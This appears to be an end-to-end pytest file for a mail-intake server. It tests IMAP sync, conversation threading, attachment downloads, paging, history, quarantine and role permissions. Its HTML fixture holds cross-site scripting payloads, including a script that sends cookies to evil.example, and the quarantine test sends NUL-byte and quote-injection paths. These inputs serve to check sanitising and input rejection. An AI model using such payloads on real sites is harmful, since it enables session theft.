"""Intake through the real server: syncMailbox against the real Dovecot, then conversations,
messages, attachments, quarantine, mailbox health, roles and metrics over HTTP.

The server's scheduler syncs every new mailbox once on its own (and IMAP IDLE may wake it), so
the tests never rely on `fetched` of one sync: they assert on what is there after syncMailbox.
"""

from __future__ import annotations

import secrets
import time
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime
from typing import Any

import pytest
from prometheus_client.parser import text_string_to_metric_families

from tests.dovecot import Dovecot
from tests.e2e.conftest import Server, cli_token, error_codes
from tests.e2e.intake_helpers import (
    CONVERSATION,
    SYNC,
    BoundMailbox,
    bind_imap_mailbox,
    conversations,
    rich_mail,
    senderless_mail,
    sync,
)
from tests.integration.intake_support import mail

PDF = b"%PDF-1.4\n" + bytes(range(256)) * 8 + b"\n%%EOF\n"
HTML = """<html><head><script>alert('head')</script></head><body>
<p>Please find the <b>invoice</b> attached.</p>
<script>document.location='http://evil.example/steal?c='+document.cookie</script>
<img src="x" onerror="alert('pwned')">
<img src="http://tracker.example/pixel.gif" alt="pixel">
</body></html>"""


@dataclass
class Desk:
    server: Server
    admin: str
    auditor: str
    agent: str
    dovecot: Dovecot

    def bind(self) -> BoundMailbox:
        return bind_imap_mailbox(self.server, self.admin, self.dovecot)


@pytest.fixture(scope="module")
def desk(start_server: Callable[..., Server], dovecot: Dovecot) -> Desk:
    # A long poll interval: apart from its first pass over each new mailbox (and IDLE wake-ups),
    # the background worker leaves the syncing to the tests' syncMailbox.
    server = start_server(MAILROOM_EXTRA_CA_FILE=dovecot.ca_file, MAILROOM_POLL_SECONDS="3600")
    admin = cli_token(server.env, server.dir, "ADMIN", "e2e admin")
    auditor = cli_token(server.env, server.dir, "AUDITOR", "e2e auditor")
    created = server.gql(admin, """mutation($input: CreateAgentInput!) {
        createAgent(input: $input) { agent { id } userErrors { code } } }""",
                         input={"name": "ann", "email": f"ann-{secrets.token_hex(3)}@desk.example"})["createAgent"]
    assert created["userErrors"] == []
    agent = cli_token(server.env, server.dir, "AGENT", "e2e agent", agent_id=created["agent"]["id"])
    return Desk(server, admin, auditor, agent, dovecot)


@dataclass
class Inbox:
    """One mailbox that took in: a question, a mail with HTML and an attachment, and a reply."""

    mailbox: BoundMailbox
    payload: dict[str, Any]
    listing: dict[str, Any]
    question_id: str
    reply_id: str
    customer: str
    other: str


@pytest.fixture(scope="module")
def inbox(desk: Desk) -> Inbox:
    box = desk.bind()
    tag = secrets.token_hex(3)
    customer, other = f"carol-{tag}@customer.example", f"dave-{tag}@customer.example"
    question_id = f"<question-{tag}@customer.example>"
    reply_id = f"<reply-{tag}@customer.example>"
    desk.dovecot.append(box.user, mail(subject=f"Order {tag} is late", sender=customer, body="Where is it?",
                                       message_id=question_id, to=box.address))
    desk.dovecot.append(box.user, rich_mail(
        subject=f"Invoice {tag}", sender=other, to=box.address, cc=f"accounts-{tag}@customer.example",
        text="Please find the invoice attached.", html=HTML, attachment=PDF, filename="invoice.pdf"))
    desk.dovecot.append(box.user, mail(subject=f"Re: Order {tag} is late", sender=customer,
                                       body="Any news?", message_id=reply_id, in_reply_to=question_id,
                                       to=box.address))
    payload = sync(desk.server, desk.admin, box.id)
    listing = conversations(desk.server, desk.admin, {"mailboxId": box.id})
    return Inbox(box, payload, listing, question_id, reply_id, customer, other)


def download(desk: Desk, path: str, token: str | None) -> Any:
    headers = {"Authorization": f"Bearer {token}"} if token is not None else {}
    return desk.server.client.get(f"{desk.server.url}{path}", headers=headers)


def moment(text: str) -> datetime:
    value = datetime.fromisoformat(text)
    assert value.tzinfo is not None, text
    return value


def bare(message_id: str) -> str:
    """A Message-ID without its angle brackets (the API may give it either way)."""
    return message_id.strip().strip("<>").lower()


# ---------------------------------------------------------------------------------- intake


def test_sync_takes_the_mails_in_as_threaded_conversations(desk: Desk, inbox: Inbox) -> None:
    payload = inbox.payload
    assert payload["userErrors"] == []
    assert payload["mailbox"]["id"] == inbox.mailbox.id
    assert payload["mailbox"]["status"] == "CONNECTED"
    assert payload["mailbox"]["lastError"] is None
    assert payload["mailbox"]["lastSyncedAt"] is not None
    assert 0 <= payload["fetched"] <= 3  # the worker may have taken some in first

    listing = inbox.listing
    assert listing["totalCount"] == 2
    assert listing["pageInfo"]["hasNextPage"] is False
    nodes = [edge["node"] for edge in listing["edges"]]
    assert len(nodes) == 2
    # Newest first: the invoice's conversation was opened after the question's.
    assert [n["customerEmail"] for n in nodes] == [inbox.other, inbox.customer]
    assert moment(nodes[0]["createdAt"]) >= moment(nodes[1]["createdAt"])
    invoice, order = nodes

    for node in nodes:
        assert node["mailbox"] == {"id": inbox.mailbox.id}
        assert node["status"] == "UNROUTED"
        assert moment(node["lastMessageAt"]) >= moment(node["createdAt"])

    # The question and its reply, threaded by In-Reply-To; the reply second.
    assert order["subject"].startswith("Order ") and order["subject"].endswith(" is late")
    assert [bare(m["messageId"]) for m in order["messages"]] == [bare(inbox.question_id), bare(inbox.reply_id)]
    question, reply = order["messages"]
    assert question["from"] == inbox.customer
    assert question["fromName"] == "Carol"  # Message.fromName: the sender's display name
    assert question["to"] == [inbox.mailbox.address]
    assert question["cc"] == []
    assert question["subject"] == order["subject"]
    assert question["text"].strip() == "Where is it?"
    assert question["html"] is None
    assert question["attachments"] == []
    assert (question["direction"], question["deliveryStatus"]) == ("INBOUND", "RECEIVED")
    assert reply["subject"] == "Re: " + order["subject"]
    assert reply["text"].strip() == "Any news?"
    assert moment(question["date"]) <= moment(reply["date"])
    assert moment(order["lastMessageAt"]) > moment(order["createdAt"])

    # The mail with HTML and an attachment.
    assert invoice["subject"].startswith("Invoice ")
    assert len(invoice["messages"]) == 1
    message = invoice["messages"][0]
    assert message["from"] == inbox.other
    assert message["fromName"] == "Dave"
    assert message["to"] == [inbox.mailbox.address]
    assert message["cc"] == [inbox.other.replace("dave-", "accounts-")]
    assert message["subject"] == invoice["subject"]
    moment(message["date"])
    assert "Please find the invoice attached." in message["text"]
    html = message["html"]
    assert html is not None and "invoice" in html
    lowered = html.lower()
    assert "<script" not in lowered
    assert "alert(" not in lowered
    assert "onerror" not in lowered
    assert "http://" not in lowered  # the remote image is blocked, the script's URL is gone
    assert "tracker.example" not in lowered
    assert message["attachments"] == [{
        "filename": "invoice.pdf", "contentType": "application/pdf", "size": len(PDF),
        "url": f"/attachments/{message['id']}/0"}]


def test_attachment_downloads_the_exact_bytes_with_a_token(desk: Desk, inbox: Inbox) -> None:
    invoice = inbox.listing["edges"][0]["node"]
    attachment = invoice["messages"][0]["attachments"][0]
    url = attachment["url"]

    response = download(desk, url, desk.admin)
    assert response.status_code == 200
    assert response.content == PDF
    assert response.headers["content-type"].startswith("application/pdf")
    disposition = response.headers["content-disposition"]
    assert disposition.startswith("attachment") and "invoice.pdf" in disposition

    assert download(desk, url, desk.auditor).content == PDF
    assert download(desk, url, None).status_code == 401
    assert download(desk, url, "mr_not-a-real-token-" + secrets.token_hex(8)).status_code == 401
    assert download(desk, url.rsplit("/", 1)[0] + "/1", desk.admin).status_code == 404
    assert download(desk, url.rsplit("/", 1)[0] + "/-1", desk.admin).status_code == 404
    # Agents only see their groups' conversations, and nothing is routed yet.
    assert download(desk, url, desk.agent).status_code == 403


def test_a_second_sync_takes_nothing_twice(desk: Desk, inbox: Inbox) -> None:
    again = sync(desk.server, desk.admin, inbox.mailbox.id)

    assert again["userErrors"] == []
    assert (again["fetched"], again["conversationsOpened"]) == (0, 0)
    after = conversations(desk.server, desk.admin, {"mailboxId": inbox.mailbox.id})
    assert after["totalCount"] == 2
    assert [len(e["node"]["messages"]) for e in after["edges"]] == [1, 2]


def test_metrics_count_the_messages_taken_in_per_mailbox(desk: Desk, inbox: Inbox) -> None:
    response = desk.server.client.get(f"{desk.server.url}/metrics")

    assert response.status_code == 200
    families = {f.name: f for f in text_string_to_metric_families(response.text)}
    assert "mailroom_messages_taken_in" in families
    samples = {s.labels["mailbox_id"]: s.value for s in families["mailroom_messages_taken_in"].samples
               if s.name == "mailroom_messages_taken_in_total"}
    # Counted once per message, whether the worker or syncMailbox took it in.
    assert samples.get(inbox.mailbox.id) == 3


# ---------------------------------------------------------------------------------- paging and filters


def test_cursor_pages_cover_every_conversation_once_and_filters_narrow(desk: Desk) -> None:
    box, elsewhere = desk.bind(), desk.bind()
    tag = secrets.token_hex(3)
    alice = f"alice-{tag}@customer.example"
    senders = [alice, f"bob-{tag}@customer.example", alice, f"cid-{tag}@customer.example",
               f"dan-{tag}@customer.example"]
    for n, sender in enumerate(senders):
        desk.dovecot.append(box.user, mail(subject=f"Question {n} {tag}", sender=sender, to=box.address))
    desk.dovecot.append(elsewhere.user, mail(subject=f"Elsewhere {tag}", sender=alice, to=elsewhere.address))
    assert sync(desk.server, desk.admin, box.id)["userErrors"] == []
    assert sync(desk.server, desk.admin, elsewhere.id)["userErrors"] == []

    only_box = {"mailboxId": box.id}
    seen: list[str] = []
    pages = 0
    after: str | None = None
    while True:
        page = conversations(desk.server, desk.admin, only_box, first=2, after=after)
        pages += 1
        assert page["totalCount"] == 5
        assert len(page["edges"]) <= 2
        seen += [e["node"]["id"] for e in page["edges"]]
        if not page["pageInfo"]["hasNextPage"]:
            break
        assert len(page["edges"]) == 2
        assert page["pageInfo"]["endCursor"] == page["edges"][-1]["cursor"]
        after = page["pageInfo"]["endCursor"]
        assert pages < 10, "paging does not end"
    assert pages == 3
    assert len(seen) == len(set(seen)) == 5
    whole = conversations(desk.server, desk.admin, only_box, first=50)
    assert [e["node"]["id"] for e in whole["edges"]] == seen  # the pages, in order, are the whole list
    created = [moment(e["node"]["createdAt"]) for e in whole["edges"]]
    assert created == sorted(created, reverse=True)
    assert {e["node"]["mailbox"]["id"] for e in whole["edges"]} == {box.id}

    def total(filter: dict[str, Any]) -> int:
        return int(conversations(desk.server, desk.admin, filter, first=1)["totalCount"])

    assert total({"mailboxId": elsewhere.id}) == 1
    assert total({"customerEmail": alice}) == 3
    assert total({"customerEmail": alice.upper()}) == 3  # case does not matter
    assert total({"customerEmail": alice, "mailboxId": box.id}) == 2
    assert total({"customerEmail": f"nobody-{tag}@customer.example"}) == 0
    assert total({"status": "UNROUTED", "mailboxId": box.id}) == 5
    assert total({"status": "OPEN", "mailboxId": box.id}) == 0
    assert total({}) >= 6
    filtered = conversations(desk.server, desk.admin, {"customerEmail": alice, "mailboxId": box.id})
    assert {e["node"]["customerEmail"] for e in filtered["edges"]} == {alice}


# ---------------------------------------------------------------------------------- history


def test_conversation_as_of_a_past_moment(desk: Desk) -> None:
    box = desk.bind()
    tag = secrets.token_hex(3)
    customer = f"erin-{tag}@customer.example"
    question_id = f"<asof-{tag}@customer.example>"

    before_creation = datetime.now(UTC)
    time.sleep(0.05)
    desk.dovecot.append(box.user, mail(subject=f"History {tag}", sender=customer, message_id=question_id,
                                       to=box.address))
    assert sync(desk.server, desk.admin, box.id)["userErrors"] == []
    time.sleep(0.05)
    between = datetime.now(UTC)  # the question is in; the reply is not even delivered yet
    time.sleep(0.05)
    desk.dovecot.append(box.user, mail(subject=f"Re: History {tag}", sender=customer, body="Follow-up",
                                       in_reply_to=question_id, to=box.address))
    assert sync(desk.server, desk.admin, box.id)["userErrors"] == []

    listing = conversations(desk.server, desk.admin, {"mailboxId": box.id})
    assert listing["totalCount"] == 1
    conversation_id = listing["edges"][0]["node"]["id"]

    now = desk.server.gql(desk.admin, CONVERSATION, id=conversation_id)["conversation"]
    assert now["id"] == conversation_id
    assert bare(now["messages"][0]["messageId"]) == bare(question_id)
    assert len(now["messages"]) == 2

    then = desk.server.gql(desk.admin, CONVERSATION, id=conversation_id,
                           asOf=between.isoformat())["conversation"]
    assert then is not None
    assert then["id"] == conversation_id
    assert then["subject"] == now["subject"]
    assert then["customerEmail"] == customer
    assert then["mailbox"] == {"id": box.id}
    assert [bare(m["messageId"]) for m in then["messages"]] == [bare(question_id)]
    assert then["messages"][0]["text"] == now["messages"][0]["text"]
    assert then["createdAt"] == now["createdAt"]
    assert moment(then["lastMessageAt"]) < moment(now["lastMessageAt"])

    before = desk.server.gql(desk.admin, CONVERSATION, id=conversation_id, asOf=before_creation.isoformat())
    assert before["conversation"] is None
    # The auditor reads history too.
    audited = desk.server.gql(desk.auditor, CONVERSATION, id=conversation_id, asOf=between.isoformat())
    assert len(audited["conversation"]["messages"]) == 1


# ---------------------------------------------------------------------------------- quarantine


def test_unparseable_mail_is_quarantined_with_its_raw_bytes(desk: Desk) -> None:
    box = desk.bind()
    raw = senderless_mail()
    desk.dovecot.append(box.user, raw)

    payload = sync(desk.server, desk.admin, box.id)

    assert payload["userErrors"] == []
    assert payload["mailbox"]["quarantinedCount"] == 1
    assert conversations(desk.server, desk.admin, {"mailboxId": box.id})["totalCount"] == 0
    query = """query($id: UUID) { quarantine(mailboxId: $id) {
        id mailbox { id quarantinedCount } receivedAt reason size rawUrl } }"""
    listed = desk.server.gql(desk.admin, query, id=box.id)["quarantine"]
    assert len(listed) == 1
    item = listed[0]
    assert item["mailbox"] == {"id": box.id, "quarantinedCount": 1}
    assert "sender" in item["reason"].lower()
    assert item["size"] == len(raw)
    moment(item["receivedAt"])
    assert item["rawUrl"] == f"/quarantine/{item['id']}/raw"
    assert desk.server.gql(desk.auditor, query, id=box.id)["quarantine"] == listed
    assert item["id"] in [q["id"] for q in desk.server.gql(desk.admin, query, id=None)["quarantine"]]
    mailbox = desk.server.gql(desk.admin, "query($id: UUID!) { mailbox(id: $id) { quarantinedCount } }", id=box.id)
    assert mailbox["mailbox"]["quarantinedCount"] == 1

    for token in (desk.admin, desk.auditor):
        response = download(desk, item["rawUrl"], token)
        assert response.status_code == 200
        assert response.content == raw
        assert response.headers["content-disposition"].startswith("attachment")
    assert download(desk, item["rawUrl"], desk.agent).status_code == 403
    assert download(desk, item["rawUrl"], None).status_code == 401
    # Ids that are not UUIDs (a NUL byte: a driver error on PostgreSQL before) are not found.
    for bad in ("/quarantine/%00/raw", "/quarantine/x%00y/raw", "/attachments/%00/0", "/attachments/a'b/0"):
        assert download(desk, bad, desk.admin).status_code == 404, bad
    # An agent may not list the quarantine either.
    assert "FORBIDDEN" in error_codes(desk.server.gql_raw(desk.agent, query, id=box.id))


# ---------------------------------------------------------------------------------- health


def test_a_refused_login_makes_the_mailbox_failing_until_it_works_again(desk: Desk) -> None:
    box = desk.bind()
    assert sync(desk.server, desk.admin, box.id)["userErrors"] == []

    desk.dovecot.set_password(box.user, "changed on the server " + secrets.token_hex(4))
    failed = sync(desk.server, desk.admin, box.id)

    assert [e["code"] for e in failed["userErrors"]] == ["AUTH_FAILED"]
    assert failed["userErrors"][0]["field"] == ["id"]
    assert failed["mailbox"]["id"] == box.id
    assert failed["mailbox"]["status"] == "FAILING"
    assert "login" in failed["mailbox"]["lastError"].lower()
    assert box.password not in failed["mailbox"]["lastError"]
    listed = desk.server.gql(desk.admin, "query($id: UUID!) { mailbox(id: $id) { status lastError } }",
                             id=box.id)["mailbox"]
    assert listed == {"status": "FAILING", "lastError": failed["mailbox"]["lastError"]}

    desk.dovecot.set_password(box.user, box.password)
    before = datetime.now(UTC)
    recovered = sync(desk.server, desk.admin, box.id)

    assert recovered["userErrors"] == []
    assert recovered["mailbox"]["status"] == "CONNECTED"
    assert recovered["mailbox"]["lastError"] is None
    assert recovered["mailbox"]["lastSyncedAt"] is not None
    assert moment(recovered["mailbox"]["lastSyncedAt"]) >= before


# ---------------------------------------------------------------------------------- roles


def test_auditor_reads_conversations_but_may_not_sync(desk: Desk, inbox: Inbox) -> None:
    seen = conversations(desk.server, desk.auditor, {"mailboxId": inbox.mailbox.id})
    assert seen == conversations(desk.server, desk.admin, {"mailboxId": inbox.mailbox.id})
    assert seen["totalCount"] == 2

    body = desk.server.gql_raw(desk.auditor, SYNC, id=inbox.mailbox.id)
    assert error_codes(body) == ["FORBIDDEN"]
    assert not (body.get("data") or {}).get("syncMailbox")


def test_agent_sees_no_conversations_before_routing_exists(desk: Desk, inbox: Inbox) -> None:
    assert conversations(desk.server, desk.admin)["totalCount"] >= 2

    seen = conversations(desk.server, desk.agent)
    assert seen["totalCount"] == 0
    assert seen["edges"] == []
    assert seen["pageInfo"]["hasNextPage"] is False
    assert conversations(desk.server, desk.agent, {"mailboxId": inbox.mailbox.id})["totalCount"] == 0
    some_id = inbox.listing["edges"][0]["node"]["id"]
    assert desk.server.gql(desk.agent, CONVERSATION, id=some_id)["conversation"] is None

    body = desk.server.gql_raw(desk.agent, SYNC, id=inbox.mailbox.id)
    assert error_codes(body) == ["FORBIDDEN"]


def test_sync_of_an_unknown_mailbox_is_not_found(desk: Desk) -> None:
    payload = sync(desk.server, desk.admin, "00000000-0000-4000-8000-000000000000")

    assert payload["mailbox"] is None
    assert [e["code"] for e in payload["userErrors"]] == ["NOT_FOUND"]
